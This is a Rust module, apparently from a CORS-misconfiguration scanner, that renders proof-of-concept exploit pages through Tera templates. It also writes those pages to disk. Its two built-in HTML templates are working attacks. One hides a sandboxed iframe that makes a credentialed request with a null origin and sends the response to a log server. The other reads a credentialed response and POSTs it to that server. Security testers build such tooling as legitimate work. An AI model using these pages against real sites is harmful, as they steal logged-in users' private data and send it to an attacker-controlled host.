//! Proof-of-concept exploit pages using Tera templates

use crate::error::Result;
use crate::models::Vulnerability;
use std::fmt;
use std::io::ErrorKind;
use std::path::{Path, PathBuf};
use tera::{Context, Tera};
use tracing::{debug, info};

/// Directory checked for user-supplied templates overriding the built-in ones
pub const TEMPLATE_DIR: &str = "poc_templates";

/// Which trust flaw the page exploits
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PocKind {
    /// Request issued from a sandboxed iframe, so the browser sends `Origin: null`
    NullOrigin,
    /// Request issued from the attacker page itself
    ReflectedOrigin,
}

impl PocKind {
    pub fn file_stem(&self) -> &'static str {
        match self {
            PocKind::NullOrigin => "null_origin",
            PocKind::ReflectedOrigin => "reflected_origin",
        }
    }

    /// The page that demonstrates a finding, if one applies
    pub fn for_vulnerability(vuln: Vulnerability) -> Option<Self> {
        match vuln {
            Vulnerability::NullOriginWhitelist => Some(PocKind::NullOrigin),
            Vulnerability::ReflectedOriginWithCredentials
            | Vulnerability::ParserConfusion
            | Vulnerability::BlindSubdomainTrust => Some(PocKind::ReflectedOrigin),
            Vulnerability::WildcardWithCredentials => None,
        }
    }

    fn builtin_template(&self) -> &'static str {
        match self {
            PocKind::NullOrigin => NULL_ORIGIN_TEMPLATE,
            PocKind::ReflectedOrigin => REFLECTED_ORIGIN_TEMPLATE,
        }
    }
}

impl fmt::Display for PocKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.file_stem())
    }
}

/// Renders a PoC page, preferring `poc_templates/<kind>.html` when present
pub fn render(kind: PocKind, target: &str, endpoint: &str, log_server: &str) -> Result<String> {
    let template = load_template(kind, Path::new(TEMPLATE_DIR))?;
    render_template(&template, target, endpoint, log_server)
}

/// Reads `<dir>/<kind>.html`, using the built-in page only when that file does not exist.
/// Any other read failure is returned.
pub fn load_template(kind: PocKind, dir: &Path) -> Result<String> {
    let path = dir.join(format!("{}.html", kind.file_stem()));
    match std::fs::read_to_string(&path) {
        Ok(template) => {
            debug!("Using PoC template override {}", path.display());
            Ok(template)
        }
        Err(e) if e.kind() == ErrorKind::NotFound => Ok(kind.builtin_template().to_string()),
        Err(e) => Err(e.into()),
    }
}

/// Renders `template` with the `url`, `endpoint` and `log_server` variables
pub fn render_template(
    template: &str,
    target: &str,
    endpoint: &str,
    log_server: &str,
) -> Result<String> {
    // Registered without an .html suffix so Tera leaves URLs unescaped
    let mut tera = Tera::default();
    tera.add_raw_template("poc", template)?;

    let endpoint = if endpoint.starts_with('/') {
        endpoint.to_string()
    } else {
        format!("/{endpoint}")
    };

    let mut context = Context::new();
    context.insert("url", target.trim_end_matches('/'));
    context.insert("endpoint", &endpoint);
    context.insert("log_server", log_server.trim_end_matches('/'));

    Ok(tera.render("poc", &context)?)
}

/// File name for a PoC page: `poc_<kind>_<endpoint with slashes as underscores>.html`
pub fn output_name(kind: PocKind, endpoint: &str) -> String {
    let trimmed = endpoint.trim_matches('/');
    let safe = if trimmed.is_empty() {
        "root".to_string()
    } else {
        trimmed.replace('/', "_")
    };
    format!("poc_{}_{safe}.html", kind.file_stem())
}

/// Renders and writes a PoC page into `dir`, returning its path
pub fn write(
    kind: PocKind,
    target: &str,
    endpoint: &str,
    log_server: &str,
    dir: &Path,
) -> Result<PathBuf> {
    let html = render(kind, target, endpoint, log_server)?;
    let path = dir.join(output_name(kind, endpoint));
    std::fs::write(&path, html)?;
    info!("PoC file created: {}", path.display());
    Ok(path)
}

const NULL_ORIGIN_TEMPLATE: &str = r#"<!DOCTYPE html>
<html>
<head><meta charset="UTF-8"><title>CORS PoC - null origin</title></head>
<body>
<h3>Null origin PoC against {{ url }}{{ endpoint }}</h3>
<iframe style="display:none"
    sandbox="allow-scripts allow-top-navigation allow-forms"
    src="data:text/html,<script>
var req = new XMLHttpRequest();
req.onload = function() {
    location = '{{ log_server }}/log?key=' + encodeURIComponent(this.responseText);
};
req.open('GET', '{{ url }}{{ endpoint }}', true);
req.withCredentials = true;
req.send();
</script>"></iframe>
</body>
</html>
"#;

const REFLECTED_ORIGIN_TEMPLATE: &str = r#"<!DOCTYPE html>
<html>
<head><meta charset="UTF-8"><title>CORS PoC - reflected origin</title></head>
<body>
<h3>Reflected origin PoC against {{ url }}{{ endpoint }}</h3>
<script>
var req = new XMLHttpRequest();
req.onload = function() {
    fetch('{{ log_server }}/log', {
        method: 'POST',
        mode: 'no-cors',
        body: this.responseText
    });
};
req.open('GET', '{{ url }}{{ endpoint }}', true);
req.withCredentials = true;
req.send();
</script>
</body>
</html>
"#;
